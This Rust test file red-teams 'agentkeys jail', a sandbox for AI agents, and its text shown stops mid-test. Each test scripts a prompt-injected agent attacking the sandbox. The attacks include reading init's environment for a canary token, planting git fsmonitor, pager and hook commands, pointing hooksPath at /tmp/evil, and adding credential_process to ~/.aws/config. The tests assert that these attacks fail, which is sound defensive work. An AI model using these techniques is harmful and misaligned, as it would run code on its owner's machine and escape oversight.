//! `agentkeys jail` red team (issue 15, second pass): a hostile, prompt-injected agent with a
//! shell inside the jail attacks the jail's own processes, the session it was handed, files
//! the owner's tools run later, hidden paths by other spellings, terminals and shared
//! temporary places, syscalls a denylist might miss, sockets under the home, and tries to
//! leave processes behind. Each test shows what the user sees (exit codes and messages), as
//! root and as a non-root owner (`setpriv`, a home of its own). The holes this pass found
//! are listed in docs/security-tests.md with the test that failed before the fix.
#![forbid(unsafe_code)]

use std::os::unix::fs::PermissionsExt;
use std::process::{Command, Stdio};
use std::time::Duration;

use agentkeys_e2e::is_root;

#[macro_use]
#[path = "support/jail_owner.rs"]
mod jail_owner;
use jail_owner::*;

/// The owner's credential exported in the shell that starts the jail: removed from the jail's
/// environment, but in the environment of the CLI and so of the jail's init.
const OWNER_TOKEN: &str = "ghp_OwnerShellCanary7e6d5c4b3a2f1e0d";

fn chown(o: &Owner, p: &std::path::Path) {
    if let Some(u) = o.uid {
        let st = Command::new("chown")
            .args(["-R", &format!("{u}:{u}")])
            .arg(p)
            .status()
            .unwrap();
        assert!(st.success());
    }
}

/// The jail's init (pid 1 inside) and its outer process carry the owner's full environment
/// (the CLI's): the agent cannot read init's `environ`, `maps`, `mem` or descriptors, nor
/// signal or stop it; the launcher and the CLI are not in its PID namespace at all.
#[test]
fn the_jails_init_is_out_of_reach() {
    skip_unless_jail!("the_jails_init_is_out_of_reach");
    for o in owners("rtinit") {
        let script = r#"
            echo "comm=$(cat /proc/1/comm)"
            cat /proc/1/environ; echo "environ=$?"
            cat /proc/1/maps >/dev/null; echo "maps=$?"
            /usr/bin/python3 -c '
try:
    open("/proc/1/mem","rb").read(1); print("MEM_READ")
except OSError as e: print("mem", e.errno)'
            readlink /proc/1/fd/0; echo "fd=$?"
            readlink /proc/1/root; echo "root=$?"
            kill -9 1; echo "kill=$?"
            kill -STOP 1; echo "stop=$?"
            echo "pids=$(ls /proc | grep -c '^[0-9]')"
            echo alive
        "#;
        let out = o
            .jail_cmd(&[], script)
            .env("GITHUB_TOKEN", OWNER_TOKEN)
            .stdin(Stdio::null())
            .output()
            .unwrap();
        let s = all(&out);
        assert!(s.contains("comm=agentkeys-jail"), "{}", show(&o, &out));
        for k in [
            "environ=1",
            "maps=1",
            "mem 13",
            "fd=1",
            "root=1",
            "kill=1",
            "stop=1",
        ] {
            assert!(s.contains(k), "{k}: {}", show(&o, &out));
        }
        assert!(
            !s.contains(OWNER_TOKEN) && !s.contains("MEM_READ"),
            "{}",
            show(&o, &out)
        );
        assert!(s.contains("alive"), "{}", show(&o, &out));
        assert_eq!(out.status.code(), Some(0), "{}", show(&o, &out));
    }
}

/// A real repository in the project, made by the owner's git outside.
fn git_repo(o: &Owner) {
    let _ = std::fs::remove_dir_all(o.proj().join(".git"));
    let git = |args: &[&str]| {
        let out = o
            .command("git", args)
            .stdin(Stdio::null())
            .output()
            .unwrap();
        assert!(out.status.success(), "git {args:?}: {}", show(o, &out));
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    git(&["init", "-q", "."]);
    // A submodule's git directory (its own config and hooks), and no `info` or `branches`
    // (Debian's template makes one): placeholders.
    std::fs::create_dir_all(o.proj().join(".git/modules/sub")).unwrap();
    std::fs::write(o.proj().join(".git/modules/sub/config"), "[core]\n").unwrap();
    for d in ["info", "branches"] {
        let _ = std::fs::remove_dir_all(o.proj().join(".git").join(d));
    }
    chown(o, &o.base);
}

fn git_out(o: &Owner, args: &[&str]) -> std::process::Output {
    let mut full = vec![
        "-c",
        "user.name=owner",
        "-c",
        "user.email=owner@example.com",
    ];
    full.extend_from_slice(args);
    o.command("git", &full)
        .stdin(Stdio::null())
        .output()
        .unwrap()
}

/// The attacks on `.git` (each prints `name=$?`): renaming or replacing `.git`, a new
/// `commondir` (points git at another config and hooks), `config` (by hand and by `git
/// config`), `config.worktree`, a hook, `info/attributes`, a submodule's config, a new linked
/// worktree's directory, a worktree's `.git` file.
const GIT_ATTACKS: &str = r#"
    mv .git .git2; echo "mv=$?"
    mkdir -p fake && mv -T fake .git; echo "replace=$?"
    mv .git/hooks .git/hooks2; echo "mvhooks=$?"
    rm -rf .git/hooks 2>/dev/null; echo "rmhooks=$?"
    echo /tmp/evil > .git/commondir; echo "commondir=$?"
    printf '[core]\n\tfsmonitor = /tmp/evil\n' >> .git/config; echo "config=$?"
    git config core.hooksPath /tmp/evil; echo "gitconfig=$?"
    printf '[core]\n\thooksPath = /tmp/evil\n' > .git/config.worktree; echo "configworktree=$?"
    echo x > .git/hooks/post-commit; echo "hook=$?"
    echo '* filter=evil' > .git/info/attributes; echo "attributes=$?"
    echo '[core] fsmonitor = /tmp/evil' >> .git/modules/sub/config; echo "modconfig=$?"
    mkdir -p .git/modules/other; echo "modnew=$?"
    mkdir -p .git/worktrees/evil; echo "worktrees=$?"
    echo 'gitdir: /tmp/evil' > WT/.git; echo "gitfile=$?"
"#;

/// The placeholders a commit-capable jail makes in a repository without them.
const GIT_PLACEHOLDERS: &[&str] = &[
    "commondir",
    "config.worktree",
    "info",
    "worktrees",
    "remotes",
    "branches",
];

/// With `--git-commit` the agent can `git add` and `git commit` inside the jail (git's own work in
/// `.git` is writable) and the commit is there outside afterwards; what makes git run a
/// program or read configuration stays read-only: `.git` cannot be renamed away or replaced
/// (a mount point), `config`, `config.worktree`, `hooks`, `info`, `modules`, `worktrees` and
/// `commondir` cannot be written, missing ones are read-only placeholders (`commondir` holds
/// `.`, the git directory itself: git inside and the owner's git outside work with it), and no
/// placeholder is left after the jail. A worktree's `.git` file cannot be pointed elsewhere.
/// Before the red-team pass `mv .git .git2` and a new `.git/commondir` worked; before this one
/// no commit could be made inside. A nested repository in a subdirectory remains possible
/// (printed, documented as a residual).
#[test]
fn git_commits_work_but_what_git_runs_stays_read_only() {
    skip_unless_jail!("git_commits_work_but_what_git_runs_stays_read_only");
    for o in owners("rtgit") {
        git_repo(&o);
        let config = std::fs::read_to_string(o.proj().join(".git/config")).unwrap();
        // A linked worktree: its `.git` is a file naming the git directory.
        let wt = o.base.join("wt");
        std::fs::create_dir_all(&wt).unwrap();
        std::fs::write(wt.join(".git"), "gitdir: /nonexistent/.git/worktrees/wt\n").unwrap();
        chown(&o, &o.base);
        let script = format!(
            r#"echo hello > a.txt
               git add a.txt; echo "add=$?"
               git -c user.name=agent -c user.email=agent@example.com commit -q -m 'from the jail'; echo "commit=$?"
               echo "commondir-holds=$(cat .git/commondir)"
               git rev-parse --git-common-dir; echo "revparse=$?"
               echo ready > ready
               while [ ! -e go ]; do sleep 0.1; done
               {attacks}
               mkdir -p sub && git -C sub init -q 2>/dev/null; echo "nested=$?"
               git -c user.name=agent -c user.email=agent@example.com commit -q --allow-empty -m 'after the attacks'; echo "commit2=$?""#,
            attacks = GIT_ATTACKS.replace("WT", &wt.display().to_string())
        );
        let child = o
            .jail_cmd(&["--git-commit", "--write", wt.to_str().unwrap()], &script)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        // While the jail runs: the owner's git outside works with the placeholders.
        assert!(agentkeys_e2e::wait_until(Duration::from_secs(30), || o
            .proj()
            .join("ready")
            .exists()));
        assert_eq!(
            std::fs::read_to_string(o.proj().join(".git/commondir")).unwrap(),
            ".\n"
        );
        let during = git_out(&o, &["log", "--format=%s"]);
        assert!(
            String::from_utf8_lossy(&during.stdout).contains("from the jail"),
            "{}",
            show(&o, &during)
        );
        let during = git_out(&o, &["status", "--short"]);
        assert!(during.status.success(), "{}", show(&o, &during));
        std::fs::write(o.proj().join("go"), "").unwrap();
        let out = child.wait_with_output().unwrap();
        let s = all(&out);
        for k in [
            "add=0",
            "commit=0",
            "commondir-holds=.",
            "revparse=0",
            "mv=1",
            "replace=1",
            "mvhooks=1",
            "commondir=2",
            "config=2",
            "configworktree=2",
            "hook=2",
            "attributes=2",
            "modconfig=2",
            "modnew=1",
            "worktrees=1",
            "gitfile=2",
            "commit2=0",
        ] {
            assert!(s.contains(k), "{k}: {}", show(&o, &out));
        }
        assert!(!s.contains("gitconfig=0"), "{}", show(&o, &out));
        assert!(!s.contains("rmhooks=0"), "{}", show(&o, &out));
        assert!(s.contains("Device or resource busy"), "{}", show(&o, &out));
        assert!(s.contains("Read-only file system"), "{}", show(&o, &out));
        assert_eq!(out.status.code(), Some(0), "{}", show(&o, &out));
        // After it: the commits are there, the repository is sound, nothing planted, no
        // placeholder left.
        let log = git_out(&o, &["log", "--format=%s"]);
        let log_s = String::from_utf8_lossy(&log.stdout);
        assert!(
            log_s.contains("from the jail") && log_s.contains("after the attacks"),
            "{}",
            show(&o, &log)
        );
        let fsck = git_out(&o, &["fsck", "--no-progress"]);
        assert!(fsck.status.success(), "{}", show(&o, &fsck));
        let commit = git_out(&o, &["commit", "-q", "--allow-empty", "-m", "owner after"]);
        assert!(commit.status.success(), "{}", show(&o, &commit));
        assert!(!o.proj().join(".git2").exists());
        assert!(!o.proj().join(".git/hooks/post-commit").exists());
        assert!(!o.proj().join(".git/modules/other").exists());
        for p in GIT_PLACEHOLDERS {
            assert!(
                std::fs::symlink_metadata(o.proj().join(".git").join(p)).is_err(),
                "{p} left behind: {}",
                show(&o, &out)
            );
        }
        assert_eq!(
            std::fs::read_to_string(o.proj().join(".git/config")).unwrap(),
            config
        );
        assert_eq!(
            std::fs::read_to_string(o.proj().join(".git/modules/sub/config")).unwrap(),
            "[core]\n"
        );
        assert_eq!(
            std::fs::read_to_string(wt.join(".git")).unwrap(),
            "gitdir: /nonexistent/.git/worktrees/wt\n"
        );
        println!(
            "[{}] residual: a nested repository in a subdirectory: {}",
            o.who(),
            s.lines().find(|l| l.starts_with("nested=")).unwrap_or("?")
        );
        println!("[{}] what the agent sees:\n{s}", o.who());
    }
}

/// The project itself made a bare repository: when `.git` is not a valid git directory (none:
/// the placeholder is empty; or one the agent broke, `echo x > .git/HEAD`, now that `.git` is
/// writable), git takes the directory itself for a bare repository if it holds `HEAD`,
/// `objects/` and `refs/`, and reads its `config`: `core.pager` runs a program at the owner's
/// next `git log` or `git branch` on a terminal in the project. A `HEAD` placeholder (an empty
/// read-only directory, which git never takes for a `HEAD` file and `git add` never adds)
/// keeps the agent from making one while the jail runs; it is gone after. Before the fix the
/// owner's `git log` (on a pty, through `script`) ran the agent's pager, with and without a
/// `.git`. (By default `.git` is read-only, valid, and found first: no placeholder needed.)
#[test]
fn the_project_cannot_become_a_bare_repository() {
    skip_unless_jail!("the_project_cannot_become_a_bare_repository");
    let has_script = Command::new("script")
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success());
    if !has_script {
        println!("SKIP the_project_cannot_become_a_bare_repository: no `script` for a pty");
        return;
    }
    for o in owners("rtbare") {
        for with_git in [false, true] {
            if with_git {
                git_repo(&o);
            } else {
                std::fs::remove_dir_all(o.proj().join(".git")).unwrap();
            }
            let pwned = o.base.join("PWNED");
            let script = format!(
                r#"[ -d .git/objects ] && echo garbage > .git/HEAD; echo "breakhead=$?"
                   printf 'ref: refs/heads/main\n' > HEAD; echo "head=$?"
                   mkdir -p objects refs/heads; echo "dirs=$?"
                   t=$(git --git-dir=. mktree </dev/null) &&
                     c=$(git --git-dir=. -c user.name=a -c user.email=a@b commit-tree "$t" -m x) &&
                     echo "$c" > refs/heads/main; echo "commit=$?"
                   printf '[core]\n\tpager = touch {p}; cat\n' > config; echo "config=$?""#,
                p = pwned.display()
            );
            // With a repository, `.git` writable (`--git-commit`): the agent can break it.
            let flags: &[&str] = if with_git { &["--git-commit"] } else { &[] };
            let out = o.jail(flags, &script);
            let s = all(&out);
            for k in ["head=2", "dirs=0", "config=0"] {
                assert!(s.contains(k), "{k} ({with_git}): {}", show(&o, &out));
            }
            assert!(s.contains("Is a directory"), "{}", show(&o, &out));
            assert!(
                std::fs::symlink_metadata(o.proj().join("HEAD")).is_err(),
                "HEAD left behind: {}",
                show(&o, &out)
            );
            // The owner's `git log` on a terminal in the project afterwards runs nothing of
            // the agent's.
            let log = o
                .command(
                    "timeout",
                    &[
                        "60",
                        "script",
                        "-qec",
                        "git log --oneline; git branch",
                        "/dev/null",
                    ],
                )
                .env("TERM", "xterm")
                .stdin(Stdio::null())
                .output()
                .unwrap();
            assert!(
                !pwned.exists(),
                "the owner's git ran the agent's pager (.git: {with_git}): {}\n{}",
                show(&o, &out),
                show(&o, &log)
            );
            println!(
                "[{}] .git: {with_git}: {s}\nthe owner's git log: {}",
                o.who(),
                all(&log)
            );
            for p in ["objects", "refs", "config", "HEAD"] {
                let _ = std::fs::remove_dir_all(o.proj().join(p));
                let _ = std::fs::remove_file(o.proj().join(p));
            }
        }
    }
}

/// An owner's repository with four submodules in the index: `lib` (an embedded git
/// directory), `ext` (a `.git` file naming a git directory in the working tree, `extgit`),
/// and two not populated, `empty` (an empty directory) and `gone` (no directory); and in
/// `lib`'s index one not populated, `lib/inner`.
fn repo_with_submodules(o: &Owner) {
    git_repo(o);
    for d in ["lib", "ext"] {
        std::fs::create_dir_all(o.proj().join(d)).unwrap();
    }
    chown(o, &o.base);
    let extgit = o.proj().join("extgit");
    for args in [
        &["-C", "lib", "init", "-q", "."][..],
        &["-C", "lib", "commit", "-q", "--allow-empty", "-m", "lib"],
        &[
            "-C",
            "ext",
            "init",
            "-q",
            "--separate-git-dir",
            extgit.to_str().unwrap(),
            ".",
        ],
        &["-C", "ext", "commit", "-q", "--allow-empty", "-m", "ext"],
        &["add", "lib", "ext"],
    ] {
        let out = git_out(o, args);
        assert!(out.status.success(), "{args:?}: {}", show(o, &out));
    }
    // Two not populated (as after a clone without --recurse-submodules): `empty` (an empty
    // directory) and `gone` (none).
    let sha = git_out(o, &["-C", "lib", "rev-parse", "HEAD"]);
    let sha = String::from_utf8_lossy(&sha.stdout).trim().to_string();
    for name in ["empty", "gone"] {
        let info = format!("160000,{sha},{name}");
        let out = git_out(o, &["update-index", "--add", "--cacheinfo", &info]);
        assert!(out.status.success(), "{}", show(o, &out));
    }
    std::fs::create_dir_all(o.proj().join("empty")).unwrap();
    // And one inside `lib`, not populated (`lib/inner`, no directory).
    let info = format!("160000,{sha},inner");
    let out = git_out(
        o,
        &["-C", "lib", "update-index", "--add", "--cacheinfo", &info],
    );
    assert!(out.status.success(), "{}", show(o, &out));
    chown(o, &o.base);
}

/// A submodule is a way around the read-only `.git/config`: the owner's `git status` in the
/// project runs a `git status` in each populated submodule (a gitlink in the index), which
/// reads that submodule's own config (`core.fsmonitor` runs a program). An existing
/// submodule's `.git` is read-only in every mode (`existing_submodules_git_stays_read_only`),
/// but with `--git-commit` the index is writable and the agent adds one of its own (`git init
/// sub`, its config, `git add sub`). The kernel cannot stop that short of a read-only index
/// (the default): `agentkeys jail` names each such submodule after the jail (a WARNING on
/// stderr), before the owner runs git there.
#[test]
fn submodules_the_agent_adds_or_changes_are_named_after_the_jail() {
    skip_unless_jail!("submodules_the_agent_adds_or_changes_are_named_after_the_jail");
    for o in owners("rtsubmod") {
        repo_with_submodules(&o);
        let pwned = o.base.join("PWNED");
        let script = format!(
            r#"mkdir sub && git -C sub init -q . && git -C sub config core.fsmonitor "touch {p}; false" &&
                 git -C sub -c user.name=a -c user.email=b commit -q --allow-empty -m s; echo "nested=$?"
               git add sub 2>/dev/null; echo "gitlink=$?"
               git -C lib config core.fsmonitor "touch {p}; false"; echo "libconfig=$?""#,
            p = pwned.display()
        );
        let out = o.jail(&["--git-commit"], &script);
        let s = all(&out);
        for k in ["nested=0", "gitlink=0"] {
            assert!(s.contains(k), "{k}: {}", show(&o, &out));
        }
        // The existing one stays the owner's with --git-commit too.
        assert!(!s.contains("libconfig=0"), "{}", show(&o, &out));
        let warnings: Vec<&str> = s.lines().filter(|l| l.contains("WARNING")).collect();
        assert!(
            warnings
                .iter()
                .any(|l| l.contains("/sub: a submodule the agent added")),
            "{}",
            show(&o, &out)
        );
        assert!(
            !warnings.iter().any(|l| l.contains("/lib:")),
            "{}",
            show(&o, &out)
        );
        // A jail that adds nothing says nothing.
        let _ = git_out(&o, &["rm", "-q", "--cached", "sub"]);
        let quiet = o.jail(
            &["--git-commit"],
            "git -C lib status --short >/dev/null; true",
        );
        assert!(!all(&quiet).contains("WARNING"), "{}", show(&o, &quiet));
        println!("[{}] what the owner sees: {}", o.who(), warnings.join("\n"));
    }
}

/// The `.git` of a submodule the owner already has is read-only inside the jail, in the
/// default mode and with `--git-commit`: an embedded git directory (`lib/.git`: its config,
/// hooks, the directory itself) and a `.git` file (`ext/.git`) with the git directory it
/// names when that lies in the working tree (`extgit`); neither `lib`, `ext` nor `extgit` can
/// be renamed away (mount points). A submodule not populated cannot be given a `.git` (its
/// directory is read-only, an empty placeholder when missing, gone after), nor can one inside a
/// submodule (`lib/inner`: the owner's `git status` recurses). Before this change the agent
/// rewrote `lib/.git/config` (`core.fsmonitor`), or ran `git init empty` or `git init
/// lib/inner` with one, in every mode, and the owner's next `git status` in the project ran
/// it.
#[test]
fn existing_submodules_git_stays_read_only() {
    skip_unless_jail!("existing_submodules_git_stays_read_only");
    for o in owners("rtsubro") {
        repo_with_submodules(&o);
        let lib_config = std::fs::read_to_string(o.proj().join("lib/.git/config")).unwrap();
        let ext_file = std::fs::read_to_string(o.proj().join("ext/.git")).unwrap();
        let ext_config = std::fs::read_to_string(o.proj().join("extgit/config")).unwrap();
        let pwned = o.base.join("PWNED");
        let script = format!(
            r#"git -C lib config core.fsmonitor "touch {p}; false"; echo "libconfig=$?"
               printf '[core]\n\tfsmonitor = touch {p}\n' >> lib/.git/config; echo "libconfigfile=$?"
               echo x > lib/.git/hooks/post-checkout; echo "libhook=$?"
               mv lib/.git lib/git2; echo "libmvgit=$?"
               mv lib lib2; echo "libmv=$?"
               echo 'gitdir: /tmp/evil' > ext/.git; echo "extgitfile=$?"
               git -C ext config core.fsmonitor "touch {p}; false"; echo "extconfig=$?"
               printf '[core]\n\tfsmonitor = touch {p}\n' >> extgit/config; echo "extgitdir=$?"
               mv ext ext2; echo "extmv=$?"
               mv extgit extgit2; echo "extgitmv=$?"
               git init -q empty && git -C empty config core.fsmonitor "touch {p}; false"; echo "emptyinit=$?"
               mkdir -p gone/.git; echo "gonegit=$?"
               mv empty empty2; echo "emptymv=$?"
               git init -q lib/inner && git -C lib/inner config core.fsmonitor "touch {p}; false"; echo "innerinit=$?"
               echo ok > lib/notes.txt; echo "libtree=$?""#,
            p = pwned.display()
        );
        for flags in [&[][..], &["--git-commit"]] {
            let out = o.jail(flags, &script);
            let s = all(&out);
            for k in [
                "libconfigfile=2",
                "libhook=2",
                "libmvgit=1",
                "libmv=1",
                "extgitfile=2",
                "extgitdir=2",
                "extmv=1",
                "extgitmv=1",
                "gonegit=1",
                "emptymv=1",
                "libtree=0",
            ] {
                assert!(s.contains(k), "{k} ({flags:?}): {}", show(&o, &out));
            }
            for k in ["libconfig=0", "extconfig=0", "emptyinit=0", "innerinit=0"] {
                assert!(!s.contains(k), "{k} ({flags:?}): {}", show(&o, &out));
            }
            assert!(s.contains("Read-only file system"), "{}", show(&o, &out));
            assert!(s.contains("Device or resource busy"), "{}", show(&o, &out));
            assert!(!s.contains("WARNING"), "{}", show(&o, &out));
            assert_eq!(
                std::fs::read_to_string(o.proj().join("lib/.git/config")).unwrap(),
                lib_config
            );
            assert_eq!(
                std::fs::read_to_string(o.proj().join("ext/.git")).unwrap(),
                ext_file
            );
            assert_eq!(
                std::fs::read_to_string(o.proj().join("extgit/config")).unwrap(),
                ext_config
            );
            assert!(!o.proj().join("empty/.git").exists());
            assert!(
                std::fs::symlink_metadata(o.proj().join("gone")).is_err(),
                "gone left behind: {}",
                show(&o, &out)
            );
            assert!(
                std::fs::symlink_metadata(o.proj().join("lib/inner")).is_err(),
                "lib/inner left behind: {}",
                show(&o, &out)
            );
            // The owner's git status afterwards runs nothing of the agent's.
            let st = git_out(&o, &["status", "--short"]);
            assert!(st.status.success(), "{}", show(&o, &st));
            assert!(!pwned.exists(), "{}\n{}", show(&o, &out), show(&o, &st));
            println!("[{}] {flags:?}: {s}", o.who());
        }
    }
}

/// The jail run in a subdirectory of a repository (`proj/app`, no `.git` of its own): the
/// owner's `git status` in `proj` recurses into the submodules under `app` as well, so those
/// are protected the same way (the enclosing repository's gitlinks that lie in the writable
/// root). Before this change `git -C lib config core.fsmonitor ...` and `git init empty`
/// worked there.
#[test]
fn submodules_below_a_jail_in_a_subdirectory_stay_read_only() {
    skip_unless_jail!("submodules_below_a_jail_in_a_subdirectory_stay_read_only");
    for o in owners("rtsubdir") {
        git_repo(&o);
        let app = o.proj().join("app");
        std::fs::create_dir_all(app.join("lib")).unwrap();
        std::fs::create_dir_all(app.join("empty")).unwrap();
        chown(&o, &o.base);
        for args in [
            &["-C", "app/lib", "init", "-q", "."][..],
            &[
                "-C",
                "app/lib",
                "commit",
                "-q",
                "--allow-empty",
                "-m",
                "lib",
            ],
            &["add", "app/lib"],
        ] {
            let out = git_out(&o, args);
            assert!(out.status.success(), "{args:?}: {}", show(&o, &out));
        }
        let sha = git_out(&o, &["-C", "app/lib", "rev-parse", "HEAD"]);
        let info = format!(
            "160000,{},app/empty",
            String::from_utf8_lossy(&sha.stdout).trim()
        );
        let out = git_out(&o, &["update-index", "--add", "--cacheinfo", &info]);
        assert!(out.status.success(), "{}", show(&o, &out));
        chown(&o, &o.base);
        let lib_config = std::fs::read_to_string(app.join("lib/.git/config")).unwrap();
        let pwned = o.base.join("PWNED");
        let script = format!(
            r#"git -C lib config core.fsmonitor "touch {p}; false"; echo "libconfig=$?"
               git init -q empty && git -C empty config core.fsmonitor "touch {p}; false"; echo "emptyinit=$?"
               echo ok > notes.txt; echo "write=$?""#,
            p = pwned.display()
        );
        let out = o
            .jail_cmd(&[], &script)
            .current_dir(&app)
            .stdin(Stdio::null())
            .output()
            .unwrap();
        let s = all(&out);
        assert!(s.contains("write=0"), "{}", show(&o, &out));
        for k in ["libconfig=0", "emptyinit=0"] {
            assert!(!s.contains(k), "{k}: {}", show(&o, &out));
        }
        assert_eq!(
            std::fs::read_to_string(app.join("lib/.git/config")).unwrap(),
            lib_config
        );
        assert!(!app.join("empty/.git").exists());
        let st = git_out(&o, &["status", "--short"]);
        assert!(st.status.success(), "{}", show(&o, &st));
        assert!(!pwned.exists(), "{}\n{}", show(&o, &out), show(&o, &st));
        println!("[{}] in a subdirectory: {s}", o.who());
    }
}

/// A jail started in a linked worktree (`git worktree add`): its `.git` is a file naming
/// `MAIN/.git/worktrees/NAME`, and the worktree's index, `HEAD` and the objects live in the
/// main repository, which is read-only unless it is itself a writable root. The agent reads
/// the repository (`git status`, `git log`) but cannot commit there, nor point the `.git`
/// file elsewhere.
#[test]
fn a_linked_worktree_reads_but_cannot_commit() {
    skip_unless_jail!("a_linked_worktree_reads_but_cannot_commit");
    for o in owners("rtwt") {
        git_repo(&o);
        let wt = o.base.join("wt2");
        for args in [
            &["commit", "-q", "--allow-empty", "-m", "first"][..],
            &["worktree", "add", "-q", wt.to_str().unwrap()],
        ] {
            let out = git_out(&o, args);
            assert!(out.status.success(), "{args:?}: {}", show(&o, &out));
        }
        chown(&o, &o.base);
        let gitfile = std::fs::read_to_string(wt.join(".git")).unwrap();
        let out = o
            .jail_cmd(
                &[],
                r#"git log --format=%s; echo "log=$?"
                   echo x > f; echo "write=$?"
                   git add f; echo "add=$?"
                   echo 'gitdir: /tmp/evil' > .git; echo "gitfile=$?""#,
            )
            .current_dir(&wt)
            .stdin(Stdio::null())
            .output()
            .unwrap();
        let s = all(&out);
        for k in ["first", "log=0", "write=0", "gitfile=2"] {
            assert!(s.contains(k), "{k}: {}", show(&o, &out));
        }
        assert!(!s.contains("add=0"), "{}", show(&o, &out));
        assert!(s.contains("index.lock"), "{}", show(&o, &out));
        assert_eq!(std::fs::read_to_string(wt.join(".git")).unwrap(), gitfile);
        assert!(std::fs::symlink_metadata(wt.join("HEAD")).is_err());
        println!("[{}] in a linked worktree: {s}", o.who());
    }
}

/// `core.hooksPath` naming a directory in the working tree (husky's `.husky/_`): the owner's
/// git runs the hooks there by itself, so it stays read-only like `.git/hooks`, and cannot be
/// carried away with its parent (`mv .husky`); a hooks path that does not exist yet is a
/// read-only placeholder, gone after the jail. Before this change the agent could rewrite
/// `.husky/_/pre-commit` (with `.git` read-only as a whole too) and the owner's next commit
/// ran it.
#[test]
fn hooks_path_in_the_working_tree_stays_read_only() {
    skip_unless_jail!("hooks_path_in_the_working_tree_stays_read_only");
    for o in owners("rthookspath") {
        for (hooks, exists) in [(".husky/_", true), (".githooks", false)] {
            git_repo(&o);
            let dir = o.proj().join(hooks);
            if exists {
                std::fs::create_dir_all(&dir).unwrap();
                std::fs::write(dir.join("pre-commit"), "#!/bin/sh\nexit 0\n").unwrap();
            }
            chown(&o, &o.base);
            let out = git_out(&o, &["config", "core.hooksPath", hooks]);
            assert!(out.status.success(), "{}", show(&o, &out));
            let top = hooks.split('/').next().unwrap();
            let script = format!(
                r#"echo 'touch /tmp/pwned' >> {hooks}/pre-commit; echo "hook=$?"
                   mv {top} moved; echo "mv=$?"
                   echo ok > notes.txt; echo "project=$?""#
            );
            let out = o.jail(&[], &script);
            let s = all(&out);
            for k in ["hook=2", "mv=1", "project=0"] {
                assert!(s.contains(k), "{k} ({hooks}): {}", show(&o, &out));
            }
            assert!(s.contains("Read-only file system"), "{}", show(&o, &out));
            if exists {
                assert_eq!(
                    std::fs::read_to_string(dir.join("pre-commit")).unwrap(),
                    "#!/bin/sh\nexit 0\n"
                );
            } else {
                assert!(
                    std::fs::symlink_metadata(&dir).is_err(),
                    "{hooks} left behind: {}",
                    show(&o, &out)
                );
            }
            let _ = std::fs::remove_dir_all(o.proj().join(top));
        }
    }
}

/// By default `.git` is read-only as a whole (fails closed: with a writable index the agent
/// could add a submodule whose config the owner's `git status` runs): no `git add` or `git
/// commit` inside (git says it cannot create `index.lock`: Read-only file system), the jail
/// says so at the start and names `--git-commit`, and the same attacks fail; `--print-policy`
/// says which mode applies.
#[test]
fn git_is_read_only_by_default() {
    skip_unless_jail!("git_is_read_only_by_default");
    for o in owners("rtgitro") {
        git_repo(&o);
        let wt = o.base.join("wt");
        std::fs::create_dir_all(&wt).unwrap();
        std::fs::write(wt.join(".git"), "gitdir: /nonexistent/.git/worktrees/wt\n").unwrap();
        chown(&o, &o.base);
        for (flag, want) in [
            (None, "\"git\": \"read_only\""),
            (Some("--git-commit"), "\"git\": \"commit\""),
        ] {
            let mut args = vec!["jail", "--agent", "a", "--print-policy"];
            args.extend(flag);
            let out = o.run(&args);
            assert!(all(&out).contains(want), "{}", show(&o, &out));
        }
        let script = format!(
            r#"echo hello > a.txt
               git add a.txt; echo "add=$?"
               git -c user.name=agent -c user.email=agent@example.com commit -q --allow-empty -m x; echo "commit=$?"
               {attacks}"#,
            attacks = GIT_ATTACKS.replace("WT", &wt.display().to_string())
        );
        let out = o.jail(&["--write", wt.to_str().unwrap()], &script);
        let s = all(&out);
        for k in [
            "mv=1",
            "replace=1",
            "commondir=2",
            "config=2",
            "hook=2",
            "attributes=2",
            "modconfig=2",
            "modnew=1",
            "worktrees=1",
            "gitfile=2",
        ] {
            assert!(s.contains(k), "{k}: {}", show(&o, &out));
        }
        assert!(!s.contains("add=0"), "{}", show(&o, &out));
        assert!(!s.contains("commit=0"), "{}", show(&o, &out));
        assert!(
            s.contains("index.lock': Read-only file system"),
            "{}",
            show(&o, &out)
        );
        // What to do about it, said by the jail before the agent starts.
        assert!(
            s.contains("agentkeys jail: .git is read-only") && s.contains("--git-commit"),
            "{}",
            show(&o, &out)
        );
        assert!(s.contains("Read-only file system"), "{}", show(&o, &out));
        assert!(!o.proj().join(".git/commondir").exists());
        assert!(!o.proj().join(".git/index").exists());
        assert!(!o.proj().join(".git/info").exists());
        let st = git_out(&o, &["status", "--short"]);
        assert!(st.status.success(), "{}", show(&o, &st));
    }
}

/// A path bound back into a hidden directory that is not a socket is read-only: `--show
/// ~/.aws/config` reads but cannot be rewritten (`credential_process` runs a program when the
/// owner's AWS tools read it). The same binding brings NixOS's `/run/current-system` back.
/// Before this change the bound path came from the owner's writable tree (Landlock refused the
/// write; without it, `--best-effort`, nothing did).
#[test]
fn paths_shown_again_are_read_only() {
    skip_unless_jail!("paths_shown_again_are_read_only");
    for o in owners("rtshow") {
        let aws = o.home().join(".aws");
        std::fs::create_dir_all(&aws).unwrap();
        std::fs::write(aws.join("config"), "[default]\nregion = eu-west-1\n").unwrap();
        std::fs::write(aws.join("credentials"), "[default]\nkey = x\n").unwrap();
        chown(&o, &o.home());
        let cfg = aws.join("config");
        let script = format!(
            r#"cat {c}; echo "read=$?"
               printf '[default]\ncredential_process = /tmp/evil\n' >> {c}; echo "write=$?"
               cat {a}/credentials 2>/dev/null; echo "credentials=$?""#,
            c = cfg.display(),
            a = aws.display()
        );
        let out = o.jail(&["--show", cfg.to_str().unwrap()], &script);
        let s = all(&out);
        for k in ["region = eu-west-1", "read=0", "write=2", "credentials=1"] {
            assert!(s.contains(k), "{k}: {}", show(&o, &out));
        }
        assert!(s.contains("Read-only file system"), "{}", show(&o, &out));
        assert_eq!(
            std::fs::read_to_string(&cfg).unwrap(),
            "[default]\nregion = eu-west-1\n"
        );
    }
}

/// NixOS reaches every program through `/run/current-system` (its `sw/bin` on PATH): with all
/// of `/run` hidden nothing ran there. The link is made again in the hidden `/run` (its target
/// is in the read-only view); `/run/wrappers` (set-ID programs) is not. Made here (as root) as a symlink to a stand-in system when the host has
/// none; on a host that has one (NixOS) that one is used and left alone.
#[test]
fn nixos_current_system_is_bound_back_read_only() {
    skip_unless_jail!("nixos_current_system_is_bound_back_read_only");
    let cs = std::path::Path::new("/run/current-system");
    let made = if std::fs::symlink_metadata(cs).is_ok() {
        None
    } else if is_root() {
